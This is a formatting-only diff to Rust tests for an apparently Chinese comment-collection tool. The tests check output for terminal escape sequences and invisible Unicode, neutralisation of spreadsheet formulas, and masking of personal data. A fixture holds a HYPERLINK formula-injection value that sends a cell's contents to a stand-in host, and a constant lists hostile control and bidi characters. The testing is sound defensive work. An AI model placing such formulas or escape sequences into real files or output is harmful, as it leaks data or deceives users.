@@ -14,8 +14,24 @@ use crate::support::letter::{Letter, letter};
 
 /// What acts on a terminal, or is not seen there.
 const HOSTILE: [&str; 18] = [
-    "\u{1b}[31m", "\u{1b}]0;x\u{7}", "\u{9b}31m", "\u{9d}0;x\u{9c}", "\u{8}", "\u{7f}", "\u{b}", "\u{85}", "\u{202e}", "\u{2066}",
-    "\u{61c}", "\u{2028}", "\u{200b}", "\u{200d}", "\u{feff}", "\u{e0041}", "\u{3164}", "\u{34f}",
+    "\u{1b}[31m",
+    "\u{1b}]0;x\u{7}",
+    "\u{9b}31m",
+    "\u{9d}0;x\u{9c}",
+    "\u{8}",
+    "\u{7f}",
+    "\u{b}",
+    "\u{85}",
+    "\u{202e}",
+    "\u{2066}",
+    "\u{61c}",
+    "\u{2028}",
+    "\u{200b}",
+    "\u{200d}",
+    "\u{feff}",
+    "\u{e0041}",
+    "\u{3164}",
+    "\u{34f}",
 ];
 
 fn acts(c: char) -> bool {
@@ -98,7 +114,9 @@ fn nothing_that_acts_on_a_terminal_reaches_it() {
         vec!["view", "意见汇总", "--unmasked"],
         vec!["view", "回执情况"],
     ];
-    commands.extend(numbers.iter().flat_map(|number| [vec!["show", number, "--unmasked"], vec!["explain", number]]));
+    commands.extend(
+        numbers.iter().flat_map(|number| [vec!["show", number, "--unmasked"], vec!["explain", number]]),
+    );
     commands.extend(entries.iter().take(8).map(|entry| vec!["explain", entry]));
     for command in commands {
         assert_harmless(&command.join(" "), &office.run(&command).said());
@@ -233,7 +251,11 @@ fn no_cell_of_a_view_opens_a_formula() {
     // What is said stays as it is said, where it opens nothing.
     let found = texts(&office, "SELECT 意见建议内容 FROM 意见汇总 WHERE 意见建议内容 LIKE '%HYPERLINK%'");
     assert!(found.iter().any(|text| text == "'=HYPERLINK(\"http://x.example/?\"&A1,\"点我\")"), "{found:?}");
-    assert_eq!(texts(&office, "SELECT comment FROM submission WHERE id = 1")[0], "=1+1", "the record is as written");
+    assert_eq!(
+        texts(&office, "SELECT comment FROM submission WHERE id = 1")[0],
+        "=1+1",
+        "the record is as written"
+    );
     let reason = "SELECT 理由 FROM 意见汇总 WHERE 编号 = 'LNZX-2024-0001'";
     assert_eq!(texts(&office, reason)[0], "'=1+1", "nor do clerks write formulas");
 }
@@ -243,7 +265,8 @@ fn a_view_is_a_table_a_csv_a_file() {
     let office = Office::at_maildir();
     import(&office, "1.eml", &letter(1), IN_TIME);
     let quoting = Letter {
-        text: "一、建议写“a,b”，\"c\"。\r\n\r\n姓名：欧阳娜娜\r\n职业：教师\r\n电话：13812345678\r\n".to_owned(),
+        text: "一、建议写“a,b”，\"c\"。\r\n\r\n姓名：欧阳娜娜\r\n职业：教师\r\n电话：13812345678\r\n"
+            .to_owned(),
         ..letter(2)
     };
     import(&office, "2.eml", &quoting, IN_TIME);
@@ -256,7 +279,10 @@ fn a_view_is_a_table_a_csv_a_file() {
 
     // Masked unless asked for, and asking is recorded.
     let table = office.run_ok(&["view", "意见汇总"]).stdout;
-    assert!(table.contains("提出单位或个人") && table.contains("欧阳**") && table.ends_with("（2 行）\n"), "{table}");
+    assert!(
+        table.contains("提出单位或个人") && table.contains("欧阳**") && table.ends_with("（2 行）\n"),
+        "{table}"
+    );
     assert!(!table.contains("娜娜"), "{table}");
     let logged = || office.rows().count("SELECT count(*) FROM event WHERE action = 'read_unmasked'");
     assert_eq!(logged(), 0);
